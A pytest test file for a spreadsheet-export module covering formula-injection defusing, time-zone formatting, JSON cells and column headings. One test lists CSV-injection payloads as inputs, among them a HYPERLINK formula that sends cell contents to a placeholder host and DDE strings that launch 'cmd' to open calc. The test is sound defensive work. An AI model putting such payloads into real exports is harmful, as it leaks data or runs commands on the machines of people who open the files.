"""Exported text is executed by no spreadsheet, and numbers stay what they are; times have their zone."""

import pendulum
import pytest

from tests.builders import HANOI, NOON
from worker.domain.export.cdr_table import COLUMNS as CDR_COLUMNS
from worker.domain.export.cells import LocalTimes, harmless, json_text
from worker.domain.export.lead_table import COLUMNS, PROFILE
from worker.domain.export.table import Column, Headings
from worker.domain.spreadsheet.columns import FIELDS, columns_of


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&A1,"ok")', "=1+1", "@SUM(A1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "\t=1", "\r=1", "\n=1", "  =1+1", "\u00a0=1", "\ufeff=1", "=", "\uff1d1", "+84(98)1", "|x",
        "+84-98-1", "-cmd", "%x", "-1e5", "+0x10",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_execute_is_defused(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "", "0981000001", "+84981000001", "+84 981 000 001", "-250000", "-3.5", "-3,5", "An", "A = B", "a@b.vn",
        "098*****01", '{"a":1}', "2026-11-23 12:00:00+07:00", " An", "'=1", "-", "+",
    ],
)  # fmt: skip
def test_all_else_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("zone", "text"),
    [
        (HANOI, "2026-11-23 12:00:00+07:00"),
        ("UTC", "2026-11-23 05:00:00+00:00"),
        ("Asia/Kathmandu", "2026-11-23 10:45:00+05:45"),
        ("America/St_Johns", "2026-11-23 01:30:00-03:30"),
    ],
)
def test_times_are_local_and_have_their_zone(zone: str, text: str) -> None:
    times = LocalTimes(zone)

    assert times.text(NOON) == text
    assert times.text(NOON.add(seconds=59)) == text.replace("00+", "59+").replace("00-", "59-")
    assert times.text(None) == ""


def test_an_hour_that_occurs_twice_has_two_offsets() -> None:
    times, first = LocalTimes("Europe/Berlin"), pendulum.datetime(2026, 10, 25, 0, 30)

    assert times.text(first) == "2026-10-25 02:30:00+02:00"
    assert times.text(first.add(hours=1)) == "2026-10-25 02:30:00+01:00"


def test_an_object_is_one_cell() -> None:
    assert (json_text({"tên": "Ân", "n": 1}), json_text({}), json_text(None)) == ('{"tên":"Ân","n":1}', "", "")


@pytest.mark.parametrize("headings", Headings)
def test_what_was_exported_can_be_imported_by_its_headings(headings: Headings) -> None:
    found = columns_of([column.heading(headings) for column in COLUMNS], known=FIELDS)

    assert found is not None
    assert found.phone == 0
    assert {name: found.fields[name] for name in found.fields if name != "ref_code"} == {
        column.key: place for place, column in enumerate(PROFILE, start=1) if column.key != "ref_code"
    }


@pytest.mark.parametrize("columns", [COLUMNS, CDR_COLUMNS])
@pytest.mark.parametrize("headings", Headings)
def test_headings_are_unique(columns: tuple[Column, ...], headings: Headings) -> None:
    names = [column.heading(headings) for column in columns]

    assert len({*names}) == len(names)
